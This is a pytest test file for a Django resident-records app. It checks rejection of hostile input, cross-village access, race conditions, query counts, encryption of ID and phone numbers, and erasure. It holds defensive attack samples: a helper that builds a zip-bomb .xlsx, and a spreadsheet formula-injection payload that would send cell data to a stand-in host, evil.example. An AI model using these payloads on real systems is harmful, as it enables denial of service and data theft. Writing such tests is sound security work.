"""Defects found in the review of the people app (hostile input, scope, concurrency, privacy)."""

import io
import json
import zipfile
from datetime import date

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from yizhan.core.scoping import scope_for, scopes_disabled
from yizhan.people.models import ImportBatch, Person
from yizhan.people.services import imports as import_services
from yizhan.people.validators import make_resident_id

from .helpers import longyuan_person
from .test_imports import HEADER, good, workbook

pytestmark = pytest.mark.django_db


def _zip_bomb() -> bytes:
    """A valid-looking .xlsx whose sheet XML unpacks to hundreds of MB (only empty rows)."""
    base = io.BytesIO(workbook([good(1)]))
    out = io.BytesIO()
    with zipfile.ZipFile(base) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                text = data.decode()
                filler = "<row/>" * 40_000_000
                text = text.replace("</sheetData>", filler + "</sheetData>")
                data = text.encode()
            dst.writestr(item, data, compress_type=zipfile.ZIP_DEFLATED, compresslevel=9)
    return out.getvalue()


@pytest.mark.parametrize(
    "data",
    [b"", b"name,village\n\xe7\x8e\x8b,330109113001\n", b"PK\x03\x04garbage", b"\x00" * 100],
    ids=["empty", "csv", "broken-zip", "nul"],
)
def test_bad_import_files_get_a_message(world, client_for, data):
    client = client_for(world.users["station_manager"])
    response = client.post("/people/import/", {"file": SimpleUploadedFile("a.xlsx", data)})
    assert response.status_code == 400
    with scopes_disabled():
        assert ImportBatch.all_objects.count() == 0


def test_zip_bomb_is_refused_quickly(world, client_for):
    data = _zip_bomb()
    assert len(data) < import_services.MAX_FILE_BYTES
    client = client_for(world.users["station_manager"])
    response = client.post("/people/import/", {"file": SimpleUploadedFile("bomb.xlsx", data)})
    assert response.status_code == 400
    assert "Excel" in response.content.decode() or "太大" in response.content.decode()
    with scopes_disabled():
        assert ImportBatch.all_objects.count() == 0


def test_confirm_twice_with_stale_batch_is_refused(world):
    user = world.users["station_manager"]
    with scope_for(user):
        batch = import_services.import_preview(actor=user, file_name="a.xlsx", data=workbook([good(1), good(2)]))
        first = ImportBatch.objects.get(pk=batch.pk)
        second = ImportBatch.objects.get(pk=batch.pk)
        assert import_services.import_confirm(actor=user, batch=first) == 2
        with pytest.raises(Exception) as exc:
            import_services.import_confirm(actor=user, batch=second)
        assert "already" in str(exc.value) or "已" in str(exc.value)
    with scopes_disabled():
        batch.refresh_from_db()
        assert batch.imported_count == 2 and Person.all_objects.count() == 2


def test_api_bad_input(world, client_for):
    client = client_for(world.users["station_manager"])
    r = client.post("/api/people/", "{not json", content_type="application/json")
    assert r.status_code in (400, 422), r.content
    r = client.get("/api/people/abc")
    assert r.status_code in (404, 422), r.content
    base = {"name": "李四", "village_code": "330109113001"}
    for extra in (
        {"mobile": "12"},
        {"id_number": "33010919900101123"},
        {"id_number": "330109900101123"},
        {"birth_date": "2999-01-01"},
        {"gender": "robot"},
        {"id_type": "alien"},
        {"residency": "mars"},
        {"village_code": "nope"},
        {"name": "x" * 300},
        {"name": ""},
    ):
        r = client.post("/api/people/", json.dumps({**base, **extra}), content_type="application/json")
        assert r.status_code in (400, 422), (extra, r.status_code, r.content[:300])
    with scopes_disabled():
        assert Person.all_objects.count() == 0


def test_api_other_village_is_404(world, client_for):
    person = longyuan_person(world)
    client = client_for(world.users["other_station_manager"])
    if client is None:
        pytest.skip("no second manager")
    assert client.get(f"/api/people/{person.pk}").status_code == 404
    assert client.get(f"/api/people/households/{person.household_id}").status_code == 404
    assert client.get(f"/people/{person.pk}/").status_code == 404
    assert client.get(f"/people/households/{person.household_id}/").status_code == 404
    assert client.post(f"/reveal/people.person/{person.pk}/mobile/", {"reason": "x"}).status_code == 404
    assert client.post(f"/reveal/people.household/{person.household_id}/address/", {"reason": "x"}).status_code == 404


def test_form_bad_ids(world, client_for):
    client = client_for(world.users["station_manager"])
    lower = make_resident_id("330109", date(1990, 1, 1), 7)
    for number in ("abc", "330109900101123", "330109299901011234", lower[:-1] + "y", "３３０１０９"):
        r = client.post(
            "/people/new/",
            {
                "name": "甲",
                "gender": "female",
                "id_type": "resident_id",
                "id_number": number,
                "region": "330109113001",
                "residency": "resident",
            },
        )
        assert r.status_code == 400, number
    r = client.post(
        "/people/new/",
        {
            "name": "甲",
            "gender": "female",
            "id_type": "resident_id",
            "birth_date": "2999-01-01",
            "region": "330109113001",
            "residency": "resident",
        },
    )
    assert r.status_code == 400
    for pk in ("abc", "99999999999999999999"):
        assert client.get(f"/people/{pk}/").status_code == 404


def _grow(world, person, n, start):
    """n more of everything hanging off ``person`` (relations, groups, consents, visits with needs/actions, plans)."""
    from datetime import timedelta

    from django.utils import timezone

    from yizhan.people.models import (
        Consent,
        FollowUpAction,
        Need,
        Relation,
        ScheduledVisit,
        TargetGroup,
        TargetGroupMembership,
        Visit,
        VisitPlan,
    )
    from yizhan.tests.factories import PersonFactory

    today = timezone.localdate()
    region = person.region
    manager = world.users["station_manager"]
    with scopes_disabled():
        for i in range(start, start + n):
            kid = PersonFactory(
                name=f"孩子{i}", region=region, birth_date=date(2016, 1, 1 + i), household=person.household
            )
            Relation.all_objects.create(person=person, relative=kid, kind="parent")
            group = TargetGroup.all_objects.create(code=f"g{i}", name=f"组{i}")
            TargetGroupMembership.all_objects.create(person=person, group=group)
            TargetGroupMembership.all_objects.create(person=kid, group=group)
            Consent.all_objects.create(person=person, purpose="care", data_scope=f"范围{i}", separate=True)
            plan = VisitPlan.all_objects.create(name=f"计划{i}", group=group, region=region)
            visit = Visit.all_objects.create(person=person, visit_date=today.replace(day=1) + timedelta(days=i % 20))
            visit.visitors.add(manager)
            Need.all_objects.create(person=person, visit=visit, category=Need.Category.choices[0][0], detail="x")
            FollowUpAction.all_objects.create(
                visit=visit, description=f"事项{i}", owner=manager, due_date=today - timedelta(days=1 + i)
            )
            ScheduledVisit.all_objects.create(plan=plan, person=kid, due_date=today - timedelta(days=1 + i))
            ScheduledVisit.all_objects.create(
                plan=plan, person=person, due_date=today.replace(day=1) + timedelta(days=i % 20)
            )


def _query_counts(client, urls):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    counts = {}
    for url in urls:
        with CaptureQueriesContext(connection) as ctx:
            response = client.get(url)
        assert response.status_code == 200, (url, response.status_code)
        counts[url] = len(ctx.captured_queries)
    return counts


def test_detail_pages_query_count_does_not_grow_with_rows(world, client_for):
    from yizhan.people.models import Visit

    person = longyuan_person(world)
    client = client_for(world.users["station_manager"])
    _grow(world, person, 2, 0)
    with scopes_disabled():
        visit = Visit.all_objects.filter(person=person).order_by("-id").first()
    urls = [
        f"/people/{person.pk}/",
        f"/people/households/{person.household_id}/",
        f"/people/visits/{visit.pk}/",
        "/people/visits/calendar/",
        "/people/visits/overdue/",
        "/people/visits/plans/",
        f"/api/people/{person.pk}",
        f"/api/people/{person.pk}/visits",
        f"/api/people/households/{person.household_id}",
        "/api/people/visits/overdue",
    ]
    _query_counts(client, urls)  # warm caches (sessions, content types)
    small = _query_counts(client, urls)
    _grow(world, person, 6, 10)
    large = _query_counts(client, urls)
    grown = {url: (small[url], large[url]) for url in urls if large[url] != small[url]}
    assert not grown, grown


def _all_db_text() -> str:
    from django.db import connection

    chunks = []
    with connection.cursor() as cursor:
        for table in connection.introspection.table_names():
            cursor.execute(f'SELECT * FROM "{table}"')
            chunks.append(f"{table}: " + repr(cursor.fetchall()))
    return "\n".join(chunks)


def test_no_plaintext_numbers_anywhere_in_the_database(world, client_for):
    from yizhan.people.models import Consent

    manager = client_for(world.users["station_manager"])
    admin = client_for(world.users["town_admin"])
    id_number = make_resident_id("330109", date(1988, 6, 6), 321)
    mobile = "13655551234"
    r = manager.post(
        "/people/new/",
        {
            "name": "孙丽",
            "gender": "female",
            "id_type": "resident_id",
            "id_number": id_number.lower(),
            "mobile": mobile,
            "region": "330109113001",
            "residency": "resident",
            "address": "隆园社区9号",
        },
    )
    assert r.status_code == 302
    with scopes_disabled():
        person = Person.all_objects.get(name="孙丽")
        Consent.all_objects.create(person=person, purpose="care", data_scope="关爱", separate=True)
    # search by full numbers (posted), reveal, export, edit, import of another person, API create
    manager.post("/people/", {"q": mobile})
    manager.post("/people/", {"q": id_number})
    manager.post(f"/reveal/people.person/{person.pk}/mobile/", {"reason": "回访"})
    manager.post("/people/export/", {"full": "1", "reason": "上报"})
    manager.post(f"/people/{person.pk}/subject-export/")
    mobile2 = "13655554321"
    manager.post(
        f"/people/{person.pk}/edit/",
        {
            "name": "孙丽",
            "gender": "female",
            "id_type": "resident_id",
            "id_number": "",
            "mobile": mobile2,
            "region": "330109113001",
            "residency": "resident",
            "version": person.version,
        },
    )
    other_id = make_resident_id("330109", date(1979, 9, 9), 654)
    row = ["周敏", "女", "", "居民身份证", other_id, "13766667777", "", "330109113001", "户籍", ""]
    r = manager.post("/people/import/", {"file": SimpleUploadedFile("a.xlsx", workbook([row]))})
    batch_url = r["Location"]
    manager.post(batch_url)
    api_id = make_resident_id("330109", date(1977, 7, 7), 987)
    manager.post(
        "/api/people/",
        json.dumps({"name": "钱红", "village_code": "330109113001", "id_number": api_id, "mobile": "13899990000"}),
        content_type="application/json",
    )
    manager.post("/api/people/search", json.dumps({"q": "13899990000"}), content_type="application/json")
    admin.post(f"/people/{person.pk}/erase/", {"reason": "本人申请", "confirm": "on"})
    with scopes_disabled():
        assert Person.all_objects.filter(name__in=["周敏", "钱红"]).count() == 2
        assert Person.all_objects.get(pk=person.pk).anonymised_at is not None
    text = _all_db_text()
    assert "audit_auditlog" in text
    for secret in (id_number, mobile, mobile2, other_id, "13766667777", api_id, "13899990000"):
        assert secret not in text and secret.lower() not in text, secret


def test_api_get_refuses_full_numbers_in_the_url(world, client_for):
    person = longyuan_person(world)
    client = client_for(world.users["station_manager"])
    for q in (person.mobile, person.id_number):
        response = client.get("/api/people/", {"q": q})
        assert response.status_code == 400 and "/search" in response.content.decode()
    response = client.post("/api/people/search", json.dumps({"q": person.mobile}), content_type="application/json")
    assert response.status_code == 200 and response.json()["meta"]["count"] == 1
    assert client.get("/api/people/", {"q": "5678"}).json()["meta"]["count"] == 1


def test_photo_with_missing_file_is_404(world, client_for):
    from yizhan.people.models import VisitPhoto

    longyuan_person(world)
    with scopes_disabled():
        photo = VisitPhoto.all_objects.create(visit=world._people_visit, image="people/visits/0/missing.jpg")
    client = client_for(world.users["station_manager"])
    assert client.get(f"/people/visits/photos/{photo.pk}/").status_code == 404
    assert client_for(world.users["other_station_manager"]).get(f"/people/visits/photos/{photo.pk}/").status_code == 404


def test_chinese_ui_says_shoujihao_like_the_foundation(world, client_for):
    person = longyuan_person(world)
    client = client_for(world.users["station_manager"])
    for url in ("/people/", "/people/new/", f"/people/{person.pk}/", "/people/import/"):
        html = client.get(url, HTTP_ACCEPT_LANGUAGE="zh-hans").content.decode()
        assert "手机号" in html and "手机号码" not in html, url
    from django.utils import translation

    with translation.override("zh-hans"):
        template = import_services.template_workbook()
    from openpyxl import load_workbook

    header = [c.value for c in load_workbook(io.BytesIO(template)).active[1]]
    assert "手机号" in header


def test_only_people_staff_can_be_visitors_or_action_owners(world, client_for):
    from datetime import timedelta

    from django.core.exceptions import ValidationError
    from django.utils import timezone

    from yizhan.people import services
    from yizhan.people.selectors import staff_for
    from yizhan.tests.factories import PersonFactory

    with scopes_disabled():
        region = world.regions["330109113002"]  # 友谊村: the volunteer serves here
        person = PersonFactory(name="友谊村居民", region=region, birth_date=date(1970, 1, 1))
        from yizhan.people.models import Consent

        Consent.all_objects.create(person=person, purpose="care", data_scope="关爱", separate=True)
        offered = set(staff_for("330109113002").values_list("username", flat=True))
        offered_dongling = set(staff_for("330109113003").values_list("username", flat=True))
    assert "volunteer" not in offered and "town_admin" in offered and "district_admin" in offered
    assert not {"mediator", "advisor"} & offered_dongling
    admin = world.users["town_admin"]
    with scope_for(admin):
        with pytest.raises(ValidationError):
            services.visit_record(
                created_by=admin,
                person=person,
                visit_date=timezone.localdate(),
                actions=[("送米", world.users["volunteer"], timezone.localdate() + timedelta(days=3))],
            )
    html = client_for(admin).get(f"/people/{person.pk}/visits/new/").content.decode()
    assert "(volunteer)" not in html and "(town_admin)" in html


def test_same_id_number_registered_at_the_same_moment(world, client_for, monkeypatch):
    """The other registration commits between our duplicate check and our insert: a clear message, no 500."""
    from yizhan.people.services import people as people_services

    person = longyuan_person(world)
    real = people_services.find_duplicate
    calls = []

    def racing(**kwargs):
        calls.append(kwargs)
        return None if len(calls) == 1 else real(**kwargs)

    monkeypatch.setattr(people_services, "find_duplicate", racing)
    client = client_for(world.users["station_manager"])
    response = client.post(
        "/people/new/",
        {
            "name": "同时登记",
            "gender": "female",
            "id_type": "resident_id",
            "id_number": person.id_number.lower(),
            "region": "330109113001",
            "residency": "resident",
        },
    )
    assert response.status_code == 400 and f"/people/{person.pk}/" in response.content.decode()
    with scopes_disabled():
        assert Person.all_objects.count() == 1
    api = client.post(
        "/api/people/",
        json.dumps({"name": "同时登记", "village_code": "330109113001", "id_number": person.id_number}),
        content_type="application/json",
    )
    assert api.status_code == 400


def test_erasure_scrubs_follow_up_actions_and_an_empty_household(world):
    from datetime import timedelta

    from django.utils import timezone

    from yizhan.people import services
    from yizhan.people.models import FollowUpAction, Household

    person = longyuan_person(world)
    admin = world.users["town_admin"]
    with scopes_disabled():
        action = FollowUpAction.all_objects.create(
            visit=world._people_visit,
            description="帮王小红申请低保，联系其前夫",
            owner=admin,
            due_date=timezone.localdate() - timedelta(days=1),
        )
    with scope_for(admin):
        result = services.person_erase(person=person, actor=admin, reason="本人申请")
    assert result.fully_anonymised
    with scopes_disabled():
        action.refresh_from_db()
        household = Household.all_objects.get(pk=person.household_id)
    assert "王小红" not in action.description and not action.is_overdue
    assert household.address == "" and "王" not in household.name


def test_visit_form_with_a_huge_visitor_id_is_a_form_error(world, client_for):
    person = longyuan_person(world)
    client = client_for(world.users["town_admin"])
    for value in ("9" * 30, "abc", "-1"):
        response = client.post(
            f"/people/{person.pk}/visits/new/", {"kind": "care", "visit_date": "2026-01-05", "visitors": [value]}
        )
        assert response.status_code == 400, value


def _replace_in_xlsx(data: bytes, name: str, content: bytes | None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            if item.filename == name:
                if content is not None:
                    dst.writestr(item, content)
            else:
                dst.writestr(item, src.read(item.filename))
    return out.getvalue()


@pytest.mark.parametrize(
    "name,content",
    [
        ("xl/worksheets/sheet1.xml", b"<worksheet><sheetData><row><c r='A1' t='s'><v>99</v></c></row>"),
        ("xl/worksheets/sheet1.xml", b"not xml at all"),
        ("xl/worksheets/sheet1.xml", None),
    ],
    ids=["truncated-sheet", "garbage-sheet", "missing-sheet"],
)
def test_corrupt_xlsx_inside_gets_a_message(world, client_for, name, content):
    data = _replace_in_xlsx(workbook([good(1), good(2)]), name, content)
    client = client_for(world.users["station_manager"])
    client.raise_request_exception = False
    response = client.post("/people/import/", {"file": SimpleUploadedFile("a.xlsx", data)})
    assert response.status_code == 400
    with scopes_disabled():
        assert ImportBatch.all_objects.count() == 0


def test_excel_outputs_never_hold_formulas_from_user_text(world, client_for):
    from openpyxl import load_workbook

    evil = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    client = client_for(world.users["station_manager"])
    row = [evil, "女", "1980-01-01", "", "", "", "", "330109113001", "", ""]
    from openpyxl import Workbook

    wb = Workbook()
    wb.active.append(HEADER)
    wb.active.append(row)
    wb.active["A2"].data_type = "s"  # typed in as text, as a user of a spreadsheet program would
    out = io.BytesIO()
    wb.save(out)
    response = client.post("/people/import/", {"file": SimpleUploadedFile("a.xlsx", out.getvalue())})
    batch_url = response["Location"]
    client.post(batch_url)
    exported = b"".join(client.get("/people/export/").streaming_content)
    for content in (exported, client.get(batch_url + "check.xlsx").content):
        wb = load_workbook(io.BytesIO(content))
        cells = [c for ws in wb.worksheets for r in ws.iter_rows() for c in r]
        assert any(evil in str(c.value) for c in cells)
        assert not [c.value for c in cells if c.data_type == "f" or str(c.value).startswith("=")]


def test_household_name_suggestion_is_translated(world, client_for):
    from yizhan.tests.factories import PersonFactory

    with scopes_disabled():
        person = PersonFactory(name="Anna", region=world.regions["330109113001"], birth_date=date(1990, 1, 1))
    client = client_for(world.users["station_manager"])
    assert 'value="Anna家"' in client.get(f"/people/{person.pk}/", HTTP_ACCEPT_LANGUAGE="zh-hans").content.decode()
    client.cookies["django_language"] = "en"
    html = client.get(f"/people/{person.pk}/", HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert "Anna家" not in html and "Anna&#x27;s household" in html


def test_full_width_numbers_are_normalised_not_duplicated(world, client_for):
    """A Chinese input method in full-width mode types ３３０１…Ｘ and １３９…: accept them as the same number."""
    from yizhan.people.validators import id_check_char

    full_width = str.maketrans({c: chr(ord(c) + 0xFEE0) for c in "0123456789X"})
    sequence = next(s for s in range(1000) if id_check_char(f"33010919900101{s:03d}") == "X")
    id_number = make_resident_id("330109", date(1990, 1, 1), sequence)
    assert id_number.endswith("X")
    client = client_for(world.users["station_manager"])

    def register(name, number, mobile):
        return client.post(
            "/people/new/",
            {
                "name": name,
                "gender": "female",
                "id_type": "resident_id",
                "id_number": number,
                "mobile": mobile,
                "region": "330109113001",
                "residency": "resident",
            },
        )

    assert register("甲", id_number, "13912340000").status_code == 302
    response = register("乙", id_number.translate(full_width), "")
    assert response.status_code == 400
    mixed = id_number[:-1].translate(full_width) + "X"  # full-width digits, ASCII X: was stored as a second person
    assert register("乙", mixed, "").status_code == 400
    with scopes_disabled():
        assert Person.all_objects.count() == 1
    other = make_resident_id("330109", date(1991, 2, 2), 5)
    assert register("丙", other.translate(full_width), "１３９１２３４５６７８").status_code == 302
    with scopes_disabled():
        person = Person.all_objects.get(name="丙")
    assert person.id_number == other and person.mobile == "13912345678"
    found = client.post(
        "/api/people/search", json.dumps({"q": "１３９１２３４５６７８"}), content_type="application/json"
    )
    assert found.json()["meta"]["count"] == 1


def test_retention_does_not_erase_a_held_person_again_every_day(world, settings):
    from datetime import timedelta

    from django.utils import timezone

    from yizhan.audit.models import AuditLog
    from yizhan.people import holds, services
    from yizhan.people.models import Consent

    person = longyuan_person(world)
    user = world.users["station_manager"]
    with scopes_disabled():
        consent = Consent.all_objects.get(person=person)
    with scope_for(user):
        services.consent_withdraw(consent=consent, withdrawn_by=user)
    Person.all_objects.filter(pk=person.pk).update(consent_withdrawn_at=timezone.now() - timedelta(days=60))
    settings.RETENTION = {"visit": 365, "consent_withdrawn_person": 30, "import_batch": 7}

    def case_file(p):
        return [holds.Hold(source="mediation", reason="调解案件卷宗 2026-001")] if p.pk == person.pk else []

    holds.register(case_file)
    try:
        with scopes_disabled():
            first = services.apply_retention(dry_run=False)
            version = Person.all_objects.get(pk=person.pk).version
            second = services.apply_retention(dry_run=False)
    finally:
        holds.unregister(case_file)
    assert first["consent_withdrawn_person"] == 1 and second["consent_withdrawn_person"] == 0
    assert second["held"] == [{"person_id": person.pk, "holds": ["调解案件卷宗 2026-001"]}]
    with scopes_disabled():
        assert Person.all_objects.get(pk=person.pk).version == version
        assert AuditLog.all_objects.filter(field="erasure", target_id=str(person.pk)).count() == 1
        # the case is closed: the next run anonymises the person fully
        third = services.apply_retention(dry_run=False)
        assert third["consent_withdrawn_person"] == 1 and Person.all_objects.get(pk=person.pk).is_anonymised
